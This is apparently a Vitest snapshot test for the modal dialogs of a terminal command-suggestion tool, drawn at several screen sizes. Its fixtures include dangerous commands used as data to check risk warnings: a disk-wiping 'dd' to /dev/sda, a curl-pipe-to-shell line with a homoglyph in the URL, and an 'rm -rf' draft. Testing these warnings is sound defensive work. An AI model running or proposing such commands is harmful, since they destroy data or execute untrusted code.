// What a modal may have to say that seldom happens, at every size that matters: while it is made, a question back, several
// to choose from, what is not done and why, what was not understood, a model beside it, a line that is held, an answer that
// is not sure, past commands that are looked through.
import { stripVTControlCharacters } from 'node:util';
import type { ReactElement } from 'react';
import { describe, expect, it } from 'vitest';
import { ALL_THE_PAST } from '../../src/ui/app/history-state.ts';
import { modalCols, modalRoom } from '../../src/ui/app/place.ts';
import type { Choice, ProposalModal as ProposalState } from '../../src/ui/app/state.ts';
import type { ModalActions, QuestionActions } from '../../src/ui/modal/actions.ts';
import { AnswerModal } from '../../src/ui/modal/answer-modal.tsx';
import { HistoryModal } from '../../src/ui/modal/history-modal.tsx';
import { LineModal } from '../../src/ui/modal/line-modal.tsx';
import { PaletteModal } from '../../src/ui/modal/palette-modal.tsx';
import { PickModal } from '../../src/ui/modal/pick-modal.tsx';
import { ProposalModal } from '../../src/ui/modal/proposal-modal.tsx';
import { defaultLook, LookContext } from '../../src/ui/theme/look.tsx';
import { render } from '../helpers/draw.ts';
import { answerOf, proposalOf } from '../helpers/fake-ports.ts';
import { keepFrame } from '../helpers/pictures.ts';
import { SIZES } from '../helpers/screens.ts';
import { verdictOf } from '../helpers/verdicts.ts';

const actions = {} as ModalActions;
const REQUEST = 'pack the pictures of last summer';
const PACK = 'tar -czf summer.tar.gz pictures/2025-06 pictures/2025-07 pictures/2025-08';

const pack: Choice = {
  command: PACK,
  verdict: verdictOf(PACK, 'moderate', 'Writes over summer.tar.gz, which is there'),
  explanation: [
    { text: 'tar', meaning: 'packs and unpacks archives' },
    { text: '-czf summer.tar.gz', meaning: 'makes this archive, with gzip' },
    { text: 'pictures/2025-06', meaning: 'what to pack' },
  ],
};
const zip: Choice = {
  ...pack,
  command: 'zip -r summer.zip pictures',
  verdict: verdictOf('zip'),
  by: 'ollama:qwen2.5-coder',
};
const wipe: Choice = {
  command: 'dd if=/dev/zero of=/dev/sda',
  verdict: verdictOf('dd', 'critical', 'Writes over the disk that this system runs from'),
  explanation: [{ text: 'of=/dev/sda', meaning: 'where to write' }],
};

const FETCHED = 'curl https://example.org/і.sh | sh';
const fetched: Choice = {
  command: FETCHED,
  verdict: verdictOf(FETCHED, 'high', 'Runs what was fetched from the network without looking at it'),
  explanation: [{ text: 'curl', meaning: 'fetches from a server' }],
};

const state = (choices: Choice[], more: Partial<ProposalState> = {}): ProposalState => ({
  kind: 'proposal',
  request: REQUEST,
  runnable: false,
  phase: 'ready',
  told: null,
  thinking: null,
  modelSaid: null,
  result: proposalOf(REQUEST, choices[0]?.command ?? null),
  choices,
  selected: 0,
  draft: '',
  typed: '',
  why: false,
  scroll: 0,
  problem: null,
  ...more,
});
const asked = (more: Parameters<typeof proposalOf>[2]) => proposalOf(REQUEST, null, more);
const open = (subject: string) => ({ subject, fact: 'not understood', source: 'the request', verified: false });

const NOW = new Date(2026, 2, 12, 15, 30).getTime();
const past = (line: string, at: number, exit: number, duration: number, cwd = '/home/ada/app', count = 1) => ({
  line,
  at: NOW - at * 60_000,
  cwd,
  exit,
  duration,
  count,
});
const PAST = [
  past('git push --force-with-lease origin parser', 1, 0, 2_400, undefined, 3),
  past('cargo test --all', 5, 101, 83_000, undefined, 27),
  past(
    'docker run --rm -it -v "$PWD":/work -w /work rust:1.75 cargo build --release --features all',
    5760,
    130,
    4e6,
    '/srv/x',
  ),
];
const AT = answerOf('').facts[0]?.at ?? 0;
const unsure = answerOf('is nginx running?', {
  answer: 'nginx is running.\nIt listens on port 80.',
  confidence: 0.5,
  uncertainties: [
    { claim: 'It listens on port 80.', reason: 'stale', suggestion: 'Check again, or run ss -ltn.', confidence: 0.5 },
    { claim: 'Requests are answered.', reason: 'inference', suggestion: 'curl -I http://localhost/', confidence: 0.3 },
  ],
});

type Draw = (cols: number, rows: number) => ReactElement;
const proposal =
  (modal: ProposalState): Draw =>
  (cols, rows) => <ProposalModal modal={modal} cols={cols} rows={rows} beside={rows} actions={actions} />;
const answer =
  (more: Partial<Parameters<typeof AnswerModal>[0]['modal']>): Draw =>
  (cols, rows) => (
    <AnswerModal
      modal={{
        kind: 'answer',
        question: 'is nginx running?',
        runnable: false,
        onLine: true,
        phase: 'ready',
        result: unsure,
        selected: -1,
        problem: null,
        ...more,
      }}
      cols={cols}
      rows={rows}
      actions={{} as QuestionActions}
      clock={() => AT + 12_000}
    />
  );
const history =
  (more: Partial<Parameters<typeof HistoryModal>[0]['modal']>): Draw =>
  (cols, rows) => (
    <HistoryModal
      modal={{
        kind: 'history',
        line: '',
        cwd: '/home/ada/app',
        home: '/home/ada',
        now: NOW,
        query: '',
        filters: ALL_THE_PAST,
        selected: 0,
        page: { from: 0, lines: PAST, total: PAST.length, complete: true },
        asking: false,
        problem: null,
        ...more,
      }}
      cols={cols}
      rows={rows}
      actions={actions}
    />
  );

const STATES: Record<string, Draw> = {
  'being made': proposal(state([], { phase: 'working', result: null })),
  'a model thinks beside it': proposal(
    state([pack], { thinking: { name: 'ollama:qwen2.5-coder', seconds: 4, text: '' } }),
  ),
  'a model has another one': proposal(state([pack, zip], { selected: 1 })),
  'several to choose from': proposal(
    state([pack, zip, wipe], {
      result: proposalOf(REQUEST, PACK, { status: 'choose', alternatives: [{ command: zip.command, summary: '' }] }),
    }),
  ),
  'a guess': proposal(
    state([pack], { result: proposalOf(REQUEST, PACK, { status: 'choose', context: [open('summer')] }) }),
  ),
  'a question back': proposal(
    state([], { result: asked({ status: 'clarify', question: 'Which summer: 2024 or 2025?' }) }),
  ),
  'never run': proposal(state([wipe])),
  'the wrong word': proposal(
    state([{ ...pack, verdict: verdictOf(PACK, 'high', 'Sends the pictures to a stranger') }], {
      phase: 'confirming',
      typed: 'tra',
      problem: 'Type tar exactly, or press Esc.',
    }),
  ),
  'changed while it was looked at': proposal(
    state([pack], { problem: 'The line changed meanwhile, so nothing was put into it.' }),
  ),
  'edited to something else': proposal(state([pack], { phase: 'editing', draft: 'rm -rf pictures' })),
  'a line that is held': (cols, rows) => (
    <LineModal
      modal={{
        kind: 'line',
        line: FETCHED,
        choice: fetched,
        held: 'It holds a letter that looks like another one: і (U+0456).',
        scroll: 0,
      }}
      cols={cols}
      rows={rows}
      actions={actions}
    />
  ),
  'looking for an answer': answer({ phase: 'looking', result: null }),
  'an answer that is not sure': answer({}),
  'what an answer stands on': answer({ selected: 1 }),
  'nobody could look': answer({ result: null, problem: 'The probes did not answer in 10 s.' }),
  'the past, looked through': history({
    filters: { where: 'here', exit: 'failed', session: 'mine', time: 'week' },
    query: 'cargo',
    selected: 1,
  }),
  'a past line to be forgotten': history({ asking: true }),
  'no past': history({ page: { from: 0, lines: [], total: 0, complete: true } }),
  'a command looked for': (cols, rows) => (
    <PaletteModal
      modal={{
        kind: 'palette',
        query: '/copy',
        selected: 1,
        unavailable: new Map([['copy-output', 'The output of the last command is not known.']]),
      }}
      cols={cols}
      rows={rows}
      actions={actions}
    />
  ),
  'a list in which nothing matches': (cols, rows) => (
    <PickModal
      modal={{
        kind: 'pick',
        what: 'touched',
        title: 'It would touch 38 files',
        items: [],
        filter: true,
        query: 'zz',
        selected: 0,
      }}
      cols={cols}
      rows={rows}
      actions={actions}
    />
  ),
};

describe.each(Object.entries(SIZES))('%s', (_size, { cols, rows }) => {
  const pane = { x: 0, y: 0, cols, rows: rows - 1 };
  it.each(Object.entries(STATES))('%s', (_name, draw) => {
    const room = modalRoom(pane, { first: 0, last: 0 }, true, false).rows;
    const element = draw(modalCols(pane), room);
    const frame =
      render(
        <LookContext.Provider value={{ ...defaultLook, still: true }}>{element}</LookContext.Provider>,
      ).lastFrame() ?? '';
    keepFrame(frame, cols, rows);
    const lines = stripVTControlCharacters(frame).split('\n');
    expect(lines.length).toBeLessThanOrEqual(room);
    expect(lines.map((line) => line.replace(/ {3,}│$/, '  │').replace(/─{4,}/g, '──')).join('\n')).toMatchSnapshot();
  });
});
